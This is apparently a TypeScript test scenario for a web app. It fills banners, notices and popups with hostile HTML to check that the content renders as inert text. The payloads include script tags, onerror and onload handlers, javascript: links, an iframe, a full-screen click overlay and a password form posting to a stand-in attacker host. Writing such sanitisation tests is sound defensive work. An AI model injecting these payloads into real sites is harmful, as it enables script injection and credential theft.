import { announced } from '../../recipes/content';
import { scenario } from '../../scenario';

const HOSTILE = '<img src=x onerror=alert(1)>';
const HTML = [
  '<p>Antes<script>alert(1)</script><img src="https://evil.example/x" onerror="alert(1)"></p>',
  '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"></svg>',
  '<form action="https://evil.example"><input name="password" autofocus></form>',
  '<p style="position:fixed;inset:0" onclick="alert(1)">Después</p>',
  '<p><a href="javascript:alert(1)">aquí</a> y <a href="https://zalo.tonalli.example/canal">allá</a></p>',
].join('');

export const hostileAnnouncements = scenario({
  name: 'hostile-announcements',
  group: 'content',
  title: { en: 'Announcements that attack', es: 'Anuncios que atacan' },
  description: {
    en: 'Scripts, frames, forms and handlers in popups, notices and banner titles: none runs, none loads.',
    es: 'Scripts, marcos, formularios y manejadores en anuncios, avisos y títulos de banners: ninguno corre ni carga.',
  },
  lookAt: [
    {
      en: 'Home: the popup, the notices and the banner read as text',
      es: 'Inicio: el anuncio, los avisos y el banner se leen como texto',
    },
  ],
  recipes: () => [
    announced.banners({ en: HOSTILE, es: HOSTILE }),
    announced.notices({ title: HOSTILE, content: HOSTILE }),
    announced.popups(...(['A', 'B', 'F'] as const).map((execution) => ({ title: HOSTILE, content: HTML, execution }))),
  ],
});
